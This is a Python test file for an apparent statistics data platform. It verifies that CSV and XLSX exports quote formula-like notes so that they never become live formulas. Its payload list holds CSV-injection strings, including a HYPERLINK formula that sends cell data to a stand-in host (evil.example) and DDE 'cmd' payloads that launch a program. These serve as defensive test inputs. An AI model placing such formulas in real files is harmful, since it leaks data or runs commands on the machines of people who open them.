"""Hostile text in exports: a note someone uploaded never becomes a live formula in a CSV or XLSX file.

Every writer goes through :mod:`jundeng.io.sanitize`; here the notes travel the real paths: imported as a
district would, then exported by ``jundeng export`` (CSV and XLSX), by the tasks bulletin writer and by a web
download, and read back with openpyxl and the csv module.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import polars as pl
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from typer.testing import CliRunner

from jundeng.cli import app as cli
from jundeng.io.task_sheet import write_task_sheet
from jundeng.services import users
from jundeng.services.observations import import_files
from jundeng.store import export
from jundeng.store.db import Database
from jundeng.web.app import create_app
from jundeng.web.limits import limiter
from tests.conftest import Templates, fresh_database, write

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
REGIONS = ["440402", "440403", "440404", "440402001"]


def _import_notes(db: Database, tmp_path: Path) -> None:
    lines = ["indicator,region,period,value,note"]
    lines += [
        f'BEDS,{region},2016,4.5,"{note.replace(chr(34), chr(34) * 2)}"'
        for region, note in zip(REGIONS, PAYLOADS, strict=True)
    ]
    lines.append("BEDS,440402,2015,-3.5,普通备注")  # a negative number stays a number
    report = import_files(db, [write(tmp_path / "notes.csv", "\n".join(lines) + "\n")], user="district")
    assert report.accepted, [str(p) for p in report.problems]


def _assert_safe_workbook(data: bytes | Path, notes_column: str = "note") -> list[object]:
    """Assert no cell of any sheet is a formula; return the cells of the notes column."""
    book = load_workbook(data if isinstance(data, Path) else io.BytesIO(data))
    notes: list[object] = []
    for sheet in book.worksheets:
        rows = list(sheet.iter_rows())
        for row in rows:
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
        header = [c.value for c in rows[0]]
        if notes_column in header:
            notes += [r[header.index(notes_column)].value for r in rows[1:]]
    return notes


def test_cli_export_quotes_formula_notes_in_xlsx_and_csv(db: Database, tmp_path: Path) -> None:
    _import_notes(db, tmp_path)
    runner = CliRunner()
    for fmt in ("xlsx", "csv"):
        out = tmp_path / f"observations.{fmt}"
        args = ["--db", db.url, "export", "observations", "--format", fmt, "--out", str(out)]
        result = runner.invoke(cli, args)
        assert result.exit_code == 0, result.output
        if fmt == "xlsx":
            notes = _assert_safe_workbook(out)
            book = load_workbook(out)
            values = [r[3] for r in book.active.iter_rows(min_row=2, values_only=True)]
            assert -3.5 in values  # numbers stay numbers
        else:
            with out.open(encoding="utf-8", newline="") as handle:
                rows = list(csv.DictReader(handle))
            notes = [r["note"] for r in rows]
            assert "-3.5" in [r["value"] for r in rows]
        hostile = sorted(str(n) for n in notes if n and n != "普通备注")
        assert hostile == sorted("'" + p for p in PAYLOADS), (fmt, notes)


def test_writers_sanitise_text_and_drop_control_characters(tmp_path: Path) -> None:
    frame = pl.DataFrame({"note": [*PAYLOADS, "bell\x07 and nul\x00"], "value": [-1.0] * 5})
    out = tmp_path / "bulletin.xlsx"
    export.write_frames({"by_unit": frame}, "xlsx", out)
    notes = _assert_safe_workbook(out)
    assert notes == ["'" + p for p in PAYLOADS] + ["bell and nul"]
    rows = [{"code": "2017-001", "title": PAYLOADS[0], "latest": PAYLOADS[3], "lead_units": ["=A1"], "percent": -5}]
    sheet = tmp_path / "tasks.xlsx"
    write_task_sheet(sheet, rows)
    cells = [c.value for c in load_workbook(sheet).active[2]]
    _assert_safe_workbook(sheet)
    assert cells[1] == "'" + PAYLOADS[0] and cells[2] == "'=A1" and cells[7] == -5 and cells[9] == "'" + PAYLOADS[3]


def test_web_download_quotes_formula_notes(mini_templates: Templates, tmp_path: Path) -> None:
    db, drop = fresh_database("sqlite", mini_templates, tmp_path)  # the sanitiser does not depend on the dialect
    _import_notes(db, tmp_path)
    users.create(db, username="office1", password="Office-pass-2017!", role="office", by="test")
    app = create_app(db.url, secret_key="exports-test")
    try:
        limiter.reset()
        client = TestClient(app)
        client.get("/api/v1/me")
        login = {"username": "office1", "password": "Office-pass-2017!"}
        assert client.post("/api/v1/login", json=login).status_code == 200
        with db.session() as session:
            frame = export.observations_frame(session, with_meta=True)
        ids = frame.filter(pl.col("note").is_in(PAYLOADS))["id"].to_list()
        assert len(ids) == len(PAYLOADS)
        for fmt in ("xlsx", "csv"):
            notes: list[object] = []
            for obs in ids:
                response = client.get("/data", params={"history": str(obs), "format": fmt, "table": "history"})
                assert response.status_code == 200, response.text
                if fmt == "xlsx":
                    notes += _assert_safe_workbook(response.content, "备注")
                else:
                    notes += [r["备注"] for r in csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))]
            assert sorted(str(n) for n in notes) == sorted("'" + p for p in PAYLOADS), fmt
    finally:
        app.state.db.dispose()
        drop()


def test_a_note_we_exported_quoted_reads_back_as_it_was_typed(db: Database, tmp_path: Path) -> None:
    """Re-importing an export must not add a quote to every formula-like note (that would be a new revision)."""
    _import_notes(db, tmp_path)
    out = tmp_path / "observations.csv"
    result = CliRunner().invoke(cli, ["--db", db.url, "export", "observations", "--format", "csv", "--out", str(out)])
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as handle:
        rows = [r for r in csv.DictReader(handle) if r["note"].startswith("'")]
    lines = ["indicator,region,period,value,note"]
    lines += [
        f'{r["indicator"]},{r["region"]},{r["period"]},{r["value"]},"{r["note"].replace(chr(34), chr(34) * 2)}"'
        for r in rows
    ]
    report = import_files(db, [write(tmp_path / "again.csv", "\n".join(lines) + "\n")], user="district")
    assert report.accepted and report.written == 0 and report.unchanged == len(PAYLOADS), [
        str(p) for p in report.problems
    ]
